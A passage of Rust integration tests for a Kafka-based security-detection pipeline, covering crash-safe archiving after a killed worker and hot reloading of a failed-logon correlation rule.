        .chars()
        .take_while(char::is_ascii_digit)
        .collect();
    digits
        .parse()
        .unwrap_or_else(|_| panic!("no number after {what:?} in:\n{text}"))
}

/// The scenario's configuration with an empty site-rules directory first among the rule
/// paths, watched every second, and its topics (one partition): (site directory, config).
fn watched_site_config(
    dir: &std::path::Path,
    bootstrap: &str,
    id: &str,
) -> (std::path::PathBuf, std::path::PathBuf) {
    let (site, config) = config_with_watched_site(dir, bootstrap, id, false);
    create_topics(&config, 1);
    (site, config)
}

/// The scenario's configuration with a site directory among its rule paths, watched every
/// second: before `rules/`, or after it (`site_last`: what the site holds wins, an
/// `escalation.yaml` or `recipients.yaml` say). Returns (site directory, configuration).
fn config_with_watched_site(
    dir: &std::path::Path,
    bootstrap: &str,
    id: &str,
    site_last: bool,
) -> (std::path::PathBuf, std::path::PathBuf) {
    let site = dir.join(if site_last {
        "site-after-rules"
    } else {
        "site-rules"
    });
    std::fs::create_dir(&site).unwrap();
    let config = scenario_config(dir, bootstrap, id);
    let rules = repo().join("rules");
    let text = std::fs::read_to_string(&config).unwrap();
    let paths = format!("paths = [\"{}\"]", rules.display());
    assert!(text.contains(&paths), "{text}");
    let (first, last) = if site_last {
        (&rules, &site)
    } else {
        (&site, &rules)
    };
    let text = text.replace(
        &paths,
        &format!(
            "watch_s = 1\npaths = [\"{}\", \"{}\"]",
            first.display(),
            last.display()
        ),
    );
    std::fs::write(&config, text).unwrap();
    (site, config)
}

/// A failed logon (Security 4625) from `address` at `time` (`HH:MM:SS`) on 2 March 2026, with
/// its organisation's context: what `FAILED_LOGON` matches.
fn failed_logon_event(address: &str, time: &str) -> String {
    format!("{{\"Channel\":\"Security\",\"EventID\":4625,\"IpAddress\":\"{address}\",\"sector\":\"health\",\"member_state\":\"DE\",\"organisation\":\"Klinikum Test\",\"@timestamp\":\"2026-03-02T{time}Z\"}}")
}

/// The correlation detections read from `reader` until one arrived (or `within` passed), each
/// as (rule id, `event_count`, what `detail` takes from it).
fn correlation_firings(
    reader: &Source,
    within: Duration,
    detail: impl Fn(&serde_json::Value) -> String,
) -> Vec<(String, String, String)> {
    let mut fired = Vec::new();
    let until = Instant::now() + within;
    while fired.is_empty() && Instant::now() < until {
        if let Some(Ok(m)) = reader.poll(Duration::from_millis(200)) {
            let d: serde_json::Value = serde_json::from_slice(m.payload()).unwrap();
            if d["kind"] == "correlation" {
                fired.push((
                    d["rule"]["id"].as_str().unwrap().to_owned(),
                    d["fields"]["event_count"].as_str().unwrap().to_owned(),
                    detail(&d),
                ));
            }
        }
    }
    fired
}

/// A consumer of the scenario's detections topic, in a group of its own.
fn detections_reader(bootstrap: &str, id: &str) -> Source {
    Source::subscribe(
        &KafkaSettings::new(bootstrap.to_owned()),
        &format!("test-{id}-reader"),
        &[format!("test.{id}.detections")],
    )
    .unwrap()
}

/// Wait (at most a minute) until the worker serving metrics on `listen` has consumed `n`
/// events of the scenario's event topic.
fn wait_consumed(listen: std::net::SocketAddr, id: &str, n: f64) {
    wait_consumed_from(listen, &format!("test.{id}.events"), n);
}

/// Wait (at most a minute) until the worker serving metrics on `listen` has consumed `n`
/// messages of `topic`.
fn wait_consumed_from(listen: std::net::SocketAddr, topic: &str, n: f64) {
    let series = format!("tocsin_events_total{{source=\"{topic}\"}}");
    wait_metric(
        listen,
        &series,
        |v| v.unwrap_or(0.0) >= n,
        &format!("the worker did not consume {n} messages of {topic}"),
    );
}

/// Wait (at most a minute) until the worker serving metrics on `listen` reports rule set
/// `version`; `why` says what failed otherwise.
fn wait_rule_set_version(listen: std::net::SocketAddr, version: f64, why: &str) {
    wait_metric(
        listen,
        "tocsin_rule_set_version",
        |v| v == Some(version),
        why,
    );
}

/// Wait (at most a minute) until the value of `series` on the worker serving metrics on
/// `listen` (`None` while absent) satisfies `holds`; `why` says what failed otherwise.
fn wait_metric(
    listen: std::net::SocketAddr,
    series: &str,
    holds: impl Fn(Option<f64>) -> bool,
    why: &str,
) {
    let until = Instant::now() + Duration::from_secs(60);
    while !holds(metric(&http_get(listen, "/metrics").1, series)) {
        assert!(Instant::now() < until, "{why}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Resident memory of a process, in KiB (Linux `/proc`).
fn resident_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("VmRSS:"))
                .and_then(|l| l.split_whitespace().nth(1))
                .and_then(|v| v.parse().ok())
        })
        .unwrap_or(0)
}

/// Publish `lines` to partition 0 of `topic` (one partition keeps the file's order, as
/// offline), and wait for the broker's acknowledgements.
fn publish_to_partition_0<'a>(sink: &mut Sink, topic: &str, lines: impl Iterator<Item = &'a str>) {
    for line in lines {
        sink.send_to(topic, Some(0), None, line.as_bytes(), &[])
            .unwrap();
    }
    sink.flush(Duration::from_secs(60)).unwrap();
}

/// The scenario's topics (with a topic per recipient of rules/recipients.yaml).
fn create_topics(config: &std::path::Path, partitions: u32) {
    run_ok(
        configured()
            .args([
                "topics",
                "create",
                "--partitions",
                &partitions.to_string(),
                "--config",
            ])
            .arg(config)
            .arg("--recipients")
            .arg(repo().join("rules/recipients.yaml")),
    );
}

/// The campaign workload (20,048 events) in `dir`, and the final version of each warning
/// `tocsin run` issues for it offline.
fn campaign_workload(
    dir: &std::path::Path,
) -> (std::path::PathBuf, BTreeMap<String, serde_json::Value>) {
    let events = dir.join("events.jsonl");
    generate_events(&events, 20000, 7);
    let expected = offline_final_warnings(&events);
    (events, expected)
}

/// A loopback address with a port nothing listens on (for a broker or a metrics listener).
fn free_loopback_addr() -> std::net::SocketAddr {
    std::net::SocketAddr::from(([127, 0, 0, 1], common::free_port()))
}

/// Read warnings until every expected final version arrived, or `for_at_most` passed.
fn read_until_final_versions(
    reader: &Source,
    expected: &BTreeMap<String, serde_json::Value>,
    seen: &mut BTreeMap<(String, u64), Vec<Vec<u8>>>,
    for_at_most: Duration,
) {
    let complete = |seen: &BTreeMap<(String, u64), Vec<Vec<u8>>>| {
        expected
            .iter()
            .all(|(id, w)| seen.contains_key(&(id.clone(), w["version"].as_u64().unwrap())))
    };
    let deadline = Instant::now() + for_at_most;
    while !complete(seen) && Instant::now() < deadline {
        read_warnings(reader, seen, Duration::from_millis(500));
    }
}

/// The archive worker: events → `worker all` → detections and warnings, with `worker
/// archive` beside it killed with SIGKILL once it has written files, and restarted. The
/// archive must then hold every event, every detection of the offline run (once per flush:
/// copies under other correlation keys are skipped) and every warning at its final version;
/// rows of the flush interrupted by the kill may be there twice, nothing may be missing.
#[test]
fn archive_worker_archives_every_event_detection_and_warning_despite_a_kill() {
    let Some(bootstrap) = bootstrap() else { return };
    let id = unique();
    let dir = tempfile::tempdir().unwrap();
    let config = scenario_config(dir.path(), &bootstrap, &id);
    let archive = dir.path().join("archive");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str(&format!(
        "\n[archive]\ndir = \"{}\"\ngroup = \"test-{id}-archive\"\nflush_rows = 2000\nflush_s = 1\n",
        archive.display()
    ));
    std::fs::write(&config, text).unwrap();
    create_topics(&config, 3);
    let (events, expected) = campaign_workload(dir.path());
    let offline_detections = dir.path().join("offline-detections.jsonl");
    run_ok(
        tocsin()
            .args(["run", "-q", "--output", "/dev/null", "--rules"])
            .arg(repo().join("rules"))
            .arg("--input")
            .arg(&events)
            .arg("--detections")
            .arg(&offline_detections),
    );
    let detection_ids = common::texts(&common::json_lines(&offline_detections), "id");

    let settings = KafkaSettings::new(bootstrap.clone());
    let mut sink = Sink::new(&settings).unwrap();
    let lines: Vec<String> = std::fs::read_to_string(&events)
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    publish_to_partition_0(
        &mut sink,
        &format!("test.{id}.events"),
        lines.iter().map(String::as_str),
    );

    let workers = spawn_configured(&config, "all");
    let mut archiver = spawn_configured(&config, "archive");
    // Kill once files are written.
    let has_files = |dir: &std::path::Path| {
        std::fs::read_dir(dir.join("events/date=2026-03-02"))
            .map(|sectors| {
                sectors.flatten().any(|s| {
                    std::fs::read_dir(s.path()).is_ok_and(|mut f| {
                        f.any(|f| {
                            f.is_ok_and(|f| f.path().extension().is_some_and(|e| e == "parquet"))
                        })
                    })
                })
            })
            .unwrap_or(false)
    };
    let deadline = Instant::now() + Duration::from_secs(120);
    while !has_files(&archive) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(has_files(&archive), "the archive worker wrote no file");
    archiver.kill().unwrap();
    archiver.wait().unwrap();
    let archiver = spawn_configured(&config, "archive");

    // Until everything is archived (or the deadline).
    let final_versions = |archive: &std::path::Path| {
        let rows = common::archive_query(
            archive,
            "SELECT warning_id, max(version) AS v FROM warnings GROUP BY warning_id",
        );
        common::numbers_by(&rows, "warning_id", "v")
    };
    let want_versions: BTreeMap<String, u64> = expected
        .iter()
        .map(|(k, w)| (k.clone(), w["version"].as_u64().unwrap()))
        .collect();
    let distinct_events = |archive: &std::path::Path| {
        common::archive_query(
            archive,
            "SELECT count(*) AS n FROM (SELECT DISTINCT raw FROM events)",
        )[0]["n"]
            .as_u64()
            .unwrap()
    };
    let archived_ids = |archive: &std::path::Path| {
        common::texts(
            &common::archive_query(archive, "SELECT DISTINCT id FROM detections"),
            "id",
        )
    };
    let unique_lines = lines.iter().collect::<BTreeSet<_>>().len() as u64;
    let deadline = Instant::now() + Duration::from_secs(180);
    while Instant::now() < deadline
        && (distinct_events(&archive) < unique_lines
            || final_versions(&archive) != want_versions
            || archived_ids(&archive) != detection_ids)
    {
        std::thread::sleep(Duration::from_secs(1));
    }
    let (status, archiver_err) = terminate(archiver);
    assert!(
        status.success(),
        "archive worker exit {status}: {archiver_err}"
    );
    let (status, workers_err) = terminate(workers);
    assert!(status.success(), "workers exit {status}: {workers_err}");

    assert_eq!(
        distinct_events(&archive),
        unique_lines,
        "events missing from the archive; the restarted archive worker said:\n{archiver_err}"
    );
    let archived_ids = archived_ids(&archive);
    assert_eq!(
        archived_ids, detection_ids,
        "detections in the archive differ from offline's"
    );
    assert_eq!(final_versions(&archive), want_versions);
    let total = common::archive_query(&archive, "SELECT count(*) AS n FROM events")[0]["n"]
        .as_u64()
        .unwrap();
    eprintln!(
        "archive worker: {} event rows for {} events after the kill ({} repeated), {} detections, {} warnings; {}",
        total,
        lines.len(),
        total.saturating_sub(lines.len() as u64),
        archived_ids.len(),
        want_versions.len(),
        archiver_err.lines().last().unwrap_or("")
    );
}

/// A correlation rule added while `tocsin worker all` runs (`rules.watch_s`) reaches the
/// correlate thread too: it counts the failures published after the reload (not those
/// before it, when it did not exist) and its firing arrives on the detections topic.
#[test]
fn correlate_worker_takes_a_new_correlation_rule_without_a_restart() {
    let Some(bootstrap) = bootstrap() else { return };
    let id = unique();
    let dir = tempfile::tempdir().unwrap();
    let (site, config) = watched_site_config(dir.path(), &bootstrap, &id);
    std::fs::write(site.join("failed_logon.yml"), FAILED_LOGON).unwrap();
    let (worker, listen) = spawn_listening(&config, "all");
    let reader = detections_reader(&bootstrap, &id);
    let mut sink = Sink::new(&KafkaSettings::new(bootstrap.clone())).unwrap();
    let topic = format!("test.{id}.events");
    let publish = |sink: &mut Sink, minutes: std::ops::Range<u32>| {
        for m in minutes {
            let event = failed_logon_event("10.1.1.1", &format!("08:{m:02}:00"));
            sink.send(&topic, None, event.as_bytes(), &[]).unwrap();
        }
        sink.flush(Duration::from_secs(30)).unwrap();
    };
    let consumed = |n: f64| wait_consumed(listen, &id, n);
    // Three failures before the correlation exists.
    publish(&mut sink, 0..3);
    consumed(3.0);
    std::fs::write(
        site.join("burst.yml"),
        "title: Failed logons from one address\nid: burst\ncorrelation:\n  type: event_count\n  rules: [failed_logon]\n  group-by: [IpAddress]\n  timespan: 1h\n  condition: {gte: 3}\nlevel: high\n",
    )
    .unwrap();
    wait_rule_set_version(listen, 2.0, "the correlation rule was not loaded");
    // The match thread passes the reload on before it counts the new set, and the
    // correlate thread takes it before its next message: no wait is needed.
    publish(&mut sink, 3..6);
    consumed(6.0);
    let fired = correlation_firings(&reader, Duration::from_secs(30), |d| {
        d["event_time"].as_str().unwrap().to_owned()
    });
    assert_eq!(
        fired,
        [(
            "burst".to_owned(),
            "3".to_owned(),
            "2026-03-02T08:05:00.000Z".to_owned()
        )],
        "the new correlation fires on the third failure after the reload"
    );
    let (status, err) = terminate(worker.take());
    assert!(status.success(), "{err}");
    assert!(
        err.contains("correlation rules replaced: 1 added"),
        "the correlate thread logs the change:\n{err}"
    );
}
